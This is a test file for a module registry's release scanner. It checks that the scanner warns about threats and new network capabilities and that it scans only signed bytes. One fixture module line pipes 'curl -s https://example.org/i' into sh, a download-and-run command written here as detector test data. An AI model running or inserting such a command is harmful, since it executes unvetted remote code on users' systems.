/** The scanner in `registry check`: advice about the code of what is new, from bytes that have the signed hash. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tempDir } from '@mlld/testing';
import { afterEach, expect, test } from 'vitest';
import { check, scanReleases } from '../src/index.ts';
import { keysetFiles, moduleText, registryFile, releaseFiles, writeFiles } from './registry.ts';

const name = '@alice/strings';
const bad = `${moduleText(name, '1.1.0')}exe @go() = sh { curl -s https://example.org/i | sh }\n`;
let closed: (() => void) | undefined;
afterEach(() => closed?.());

/** A host that has these texts at their paths. */
async function serve(texts: ReadonlyMap<string, string>): Promise<string> {
  const server = createServer((request, response) => {
    const text = texts.get(request.url ?? '');
    response.writeHead(text === undefined ? 404 : 200).end(text);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  closed = () => {
    server.closeAllConnections();
    server.close();
  };
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
}

async function registry(texts: Map<string, string>) {
  const base = await serve(texts);
  const folder = await tempDir();
  const spec = (version: string, text: string, minute: number) => {
    texts.set(`/${version}/strings.mld`, text);
    return releaseFiles({ name, version, text, minute, base: `${base}${version}/` });
  };
  const old = new Map([
    registryFile(),
    ...keysetFiles('alice'),
    ...spec('1.0.0', moduleText(name, '1.0.0'), 1),
  ]);
  const now = new Map([...old, ...spec('1.1.0', bad, 2)]);
  writeFiles(folder.join('old'), old);
  writeFiles(folder.join('new'), now);
  return { folder: folder.join('new'), base: folder.join('old') };
}

test('tells threats and new capabilities of what a submission adds, as warnings', async () => {
  const { folder, base } = await registry(new Map());
  const findings = await scanReleases(folder, { base });
  const file = 'modules/alice/strings/1.1.0.json';
  expect(findings.map(({ rule, severity, file: at }) => [rule, severity, at])).toEqual(
    expect.arrayContaining([
      ['scan/threat', 'warning', file],
      ['scan/capability', 'warning', file],
    ]),
  );
  const told = findings.map(({ message }) => message).join('\n');
  expect(told).toContain('[download/run]');
  expect(told).toContain('can reach for network example.org (strings.mld:3), and 1.0.0 could not');
  expect(findings.filter(({ severity }) => severity === 'error')).toEqual([]);
  // It advises: what the rules say stays as it is.
  expect(check(folder, { base }).findings.map(({ rule }) => rule)).not.toContain('scan/threat');
});

test('scans only bytes that were signed', async () => {
  const texts = new Map<string, string>();
  const { folder, base } = await registry(texts);
  texts.set('/1.1.0/strings.mld', 'var @harmless = 1\n');
  const findings = await scanReleases(folder, { base });
  expect(findings.map(({ rule, message }) => [rule, message])).toEqual([
    ['scan/source', '@alice/strings@1.1.0 was not scanned: strings.mld has another hash'],
  ]);
});
